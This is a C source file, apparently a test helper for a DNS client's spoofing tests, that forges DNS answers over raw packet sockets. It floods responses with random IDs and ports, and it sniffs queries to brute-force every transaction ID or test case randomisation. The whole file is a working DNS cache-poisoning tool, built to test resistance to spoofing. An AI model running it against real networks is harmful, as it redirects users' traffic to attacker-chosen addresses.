// SPDX-License-Identifier: Apache-2.0
// SPDX-FileCopyrightText: Copyright the swift-httpdns contributors

// Forges answers of a name server, with the server's address and port as source, for try-spoofing.py.
//
//   cc -O2 -o forger forger.c
//   forger INTERFACE CLIENT SERVER PORT flood FIRST LAST
//   forger INTERFACE CLIENT SERVER PORT guess|every|lower|right
//
// `flood` sees no query. It reads the name that is being asked for from standard input, one a line, and sends answers
// with random IDs to random ports from FIRST to LAST without a pause.
//
// The others see the queries on the interface, and forge answers to the port of each one. They print a line after each:
//   guess  every ID with the question in lower case, and every ID but the right one with the question as it was sent
//   every  every ID with the question as it was sent: for a PORT or SERVER that is not that of the query
//   lower  one answer with the right ID, and the question in lower case
//   right  one answer with the right ID and question, as a forger that sees the queries can send it
//
// All of them end with standard input, and print how many answers they have sent, and in how many packets.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/virtio_net.h>
#include <net/if.h>
#include <poll.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <unistd.h>

// Linux has it since 6.2, and Debian 12 no header for it.
#ifndef VIRTIO_NET_HDR_GSO_UDP_L4
#define VIRTIO_NET_HDR_GSO_UDP_L4 5
#endif

// The offsets in a frame, and in a query after its Ethernet header.
enum { ETHERNET = sizeof(struct virtio_net_hdr), IP = ETHERNET + 14, UDP = IP + 20, DNS = UDP + 8 };
enum { QUERY_UDP = 14 + 20, QUERY_DNS = QUERY_UDP + 8, QUERY_QUESTION = QUERY_DNS + 12 };
// The flood's datagrams to a port pass the kernel as one packet, and are taken apart at a socket, as with UDP_SEGMENT:
// the kernel's work for a packet limits the rate. More of them are wasted: a client leaves a socket after eight.
enum { TOGETHER = 7 };
enum { LONGEST_QUESTION = 259, LONGEST_ANSWER = 12 + LONGEST_QUESTION + 16, BATCH = 256 };

struct frame {
    unsigned char bytes[DNS + TOGETHER * LONGEST_ANSWER];
    size_t length, answer;
};

static struct frame batch[BATCH];
static struct mmsghdr messages[BATCH];
static struct iovec parts[BATCH];
static unsigned waiting;
static unsigned long sent, sent_packets;
static int packets;
static uint32_t client, server;
static uint16_t server_port;
static uint64_t state;

static void fail(const char *what) {
    perror(what);
    exit(1);
}

// Marsaglia's xorshift64*: quick, and as good as any for guesses.
static uint32_t draw(void) {
    state ^= state >> 12;
    state ^= state << 25;
    state ^= state >> 27;
    return (uint32_t)((state * 0x2545f4914f6cdd1d) >> 32);
}

static void put16(unsigned char *at, unsigned value) {
    at[0] = (unsigned char)(value >> 8);
    at[1] = (unsigned char)value;
}

static unsigned get16(const unsigned char *at) { return (unsigned)at[0] << 8 | at[1]; }

static unsigned sum_of(const unsigned char *bytes, int count, unsigned sum) {
    for (int at = 0; at < count; at += 2) sum += get16(bytes + at);
    return (sum & 0xffff) + (sum >> 16);
}

// A packet with one answer, or several, to a question in wire form, without port and IDs.
static struct frame answers(unsigned number, const unsigned char *question, size_t count, int lowercase) {
    static const unsigned char record[] = {0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 1, 0x2c, 0, 4, 198, 51, 100, 66};
    static const unsigned char ethernet[] = {2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 0x53, 8, 0};
    struct frame frame = {.answer = 12 + count + sizeof record};
    frame.length = DNS + number * frame.answer;
    unsigned char *bytes = frame.bytes;
    memcpy(bytes + ETHERNET, ethernet, sizeof ethernet);
    bytes[IP] = 0x45;
    put16(bytes + IP + 2, (unsigned)(frame.length - IP));
    bytes[IP + 8] = 64;
    bytes[IP + 9] = IPPROTO_UDP;
    memcpy(bytes + IP + 12, &server, 4);
    memcpy(bytes + IP + 16, &client, 4);
    put16(bytes + IP + 10, ~sum_of(bytes + IP, 20, 0));
    put16(bytes + UDP, server_port);
    put16(bytes + UDP + 4, (unsigned)(frame.length - UDP));
    // One answer has no checksum, which IPv4 allows. That of more is begun here and ended where they are taken apart.
    if (number > 1) {
        struct virtio_net_hdr header = {.flags = VIRTIO_NET_HDR_F_NEEDS_CSUM, .gso_type = VIRTIO_NET_HDR_GSO_UDP_L4};
        header.hdr_len = DNS - ETHERNET;
        header.gso_size = (uint16_t)frame.answer;
        header.csum_start = UDP - ETHERNET;
        header.csum_offset = 6;
        memcpy(bytes, &header, sizeof header);
        unsigned sum = sum_of(bytes + IP + 12, 8, IPPROTO_UDP + (unsigned)(frame.length - UDP));
        put16(bytes + UDP + 6, (sum & 0xffff) + (sum >> 16));
    }
    for (unsigned char *at = bytes + DNS; at < bytes + frame.length; at += frame.answer) {
        put16(at + 2, 0x8180);
        put16(at + 4, 1);
        put16(at + 6, 1);
        memcpy(at + 12, question, count);
        for (size_t octet = 0; lowercase && octet < count - 4; octet++)
            at[12 + octet] = (unsigned char)tolower(question[octet]);
        memcpy(at + 12 + count, record, sizeof record);
    }
    return frame;
}

static void flush(void) {
    unsigned done = 0;
    while (done < waiting) {
        int count = sendmmsg(packets, messages + done, waiting - done, 0);
        if (count > 0) done += (unsigned)count;
        else if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) fail("sendmmsg");
    }
    waiting = 0;
}

// The place for the IDs of a packet that is sent later.
static unsigned char *forge(const struct frame *frame, unsigned port) {
    if (waiting == BATCH) flush();
    unsigned char *bytes = batch[waiting].bytes;
    memcpy(bytes, frame->bytes, frame->length);
    put16(bytes + UDP + 2, port);
    parts[waiting++].iov_len = frame->length;
    sent += (frame->length - DNS) / frame->answer;
    sent_packets++;
    return bytes + DNS;
}

// Reads what is there of standard input; 0 at its end.
static size_t read_input(char *text, size_t size) {
    ssize_t count = read(STDIN_FILENO, text, size);
    if (count < 0) fail("read");
    return (size_t)count;
}

// The question for the A records of a name.
static size_t encode(const char *name, unsigned char *question) {
    size_t at = 0;
    while (*name) {
        size_t label = strcspn(name, ".");
        question[at] = (unsigned char)label;
        memcpy(question + at + 1, name, label);
        at += label + 1;
        name += label + (name[label] == '.');
    }
    memcpy(question + at, "\0\0\1\0\1", 5);
    return at + 5;
}

// The number of datagrams in one packet: 1 where the kernel does not know them from a packet socket (before Linux 6.2).
static unsigned together(void) {
    static const unsigned char root[] = {0, 0, 1, 0, 1};
    struct frame trial = answers(2, root, sizeof root, 0);
    return send(packets, trial.bytes, trial.length, 0) < 0 && errno == EINVAL ? 1 : TOGETHER;
}

static void flood(unsigned first, unsigned last) {
    unsigned count_together = together();
    struct frame frame = {.length = 0};
    struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
    while (poll(&input, 1, frame.length ? 0 : -1) >= 0) {
        if (input.revents) {
            // A line is written at once, when the one before has long been read.
            char text[LONGEST_QUESTION - 5];
            unsigned char question[LONGEST_QUESTION];
            size_t count = read_input(text, sizeof text - 1);
            if (count == 0) return;
            text[count] = 0;
            text[strcspn(text, "\n")] = 0;
            frame = answers(count_together, question, encode(text, question), 1);
        }
        for (int number = 0; number < BATCH; number++) {
            unsigned char *ids = forge(&frame, first + (unsigned)((uint64_t)draw() * (last - first + 1) >> 32));
            for (unsigned each = 0; each < count_together; each++, ids += frame.answer) put16(ids, draw());
        }
    }
}

static void reply(const unsigned char *query, size_t length, const char *mode) {
    unsigned port = get16(query + QUERY_UDP), right = get16(query + QUERY_DNS);
    size_t root = QUERY_QUESTION;
    while (root < length && query[root]) root += query[root] + 1u;
    // A type and a class follow.
    size_t count = root + 5 - QUERY_QUESTION;
    if (count > LONGEST_QUESTION || QUERY_QUESTION + count > length) return;
    struct frame exact = answers(1, query + QUERY_QUESTION, count, 0);
    struct frame lowercase = answers(1, query + QUERY_QUESTION, count, 1);
    unsigned long before = sent;
    if (*mode == 'l' || *mode == 'r') put16(forge(*mode == 'l' ? &lowercase : &exact, port), right);
    // An odd step reaches every ID once.
    unsigned id = draw(), step = draw() | 1;
    for (int number = 0; (*mode == 'g' || *mode == 'e') && number < 65536; number++, id += step) {
        if (*mode == 'g') put16(forge(&lowercase, port), id);
        if (*mode == 'e' || (id & 0xffff) != right) put16(forge(&exact, port), id);
    }
    flush();
    printf("%lu answers to port %u\n", sent - before, port);
}

static void listen_and_reply(int listener, const char *mode) {
    struct pollfd ready[] = {{.fd = STDIN_FILENO, .events = POLLIN}, {.fd = listener, .events = POLLIN}};
    unsigned char last[1024] = {0};
    puts("ready");
    while (poll(ready, 2, -1) >= 0) {
        char text[16];
        if (ready[0].revents && read_input(text, sizeof text) == 0) return;
        if (!ready[1].revents) continue;
        unsigned char query[sizeof last] = {0};
        ssize_t length = recv(listener, query, sizeof query, 0);
        if (length < QUERY_QUESTION + 5 || query[14] != 0x45 || query[14 + 9] != IPPROTO_UDP) continue;
        if (get16(query + QUERY_UDP + 2) != 53) continue;
        // A query that is sent again has the same port, ID and question.
        if (memcmp(last + QUERY_UDP, query + QUERY_UDP, sizeof last - QUERY_UDP) == 0) continue;
        memcpy(last, query, sizeof last);
        reply(query, (size_t)length, mode);
    }
}

int main(int count, char **arguments) {
    if (count < 6 || (strcmp(arguments[5], "flood") == 0) != (count == 8)) {
        fprintf(stderr, "usage: forger INTERFACE CLIENT SERVER PORT flood FIRST LAST|guess|every|lower|right\n");
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    client = inet_addr(arguments[2]);
    server = inet_addr(arguments[3]);
    server_port = (uint16_t)atoi(arguments[4]);
    if (getrandom(&state, sizeof state, 0) != sizeof state) fail("getrandom");
    state |= 1;
    struct sockaddr_ll interface = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(arguments[1])};
    int on = 1;
    // Protocol 0 receives nothing.
    packets = socket(AF_PACKET, SOCK_RAW, 0);
    if (packets < 0 || bind(packets, (struct sockaddr *)&interface, sizeof interface) < 0) fail("packet socket");
    if (setsockopt(packets, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on) < 0) fail("PACKET_QDISC_BYPASS");
    if (setsockopt(packets, SOL_PACKET, PACKET_VNET_HDR, &on, sizeof on) < 0) fail("PACKET_VNET_HDR");
    for (int number = 0; number < BATCH; number++) {
        parts[number].iov_base = batch[number].bytes;
        messages[number].msg_hdr.msg_iov = &parts[number];
        messages[number].msg_hdr.msg_iovlen = 1;
    }
    if (count == 8) {
        flood((unsigned)atoi(arguments[6]), (unsigned)atoi(arguments[7]));
    } else {
        interface.sll_protocol = htons(ETH_P_IP);
        int listener = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
        if (listener < 0 || bind(listener, (struct sockaddr *)&interface, sizeof interface) < 0) fail("packet socket");
        listen_and_reply(listener, arguments[5]);
    }
    flush();
    printf("%lu %lu\n", sent, sent_packets);
    return 0;
}
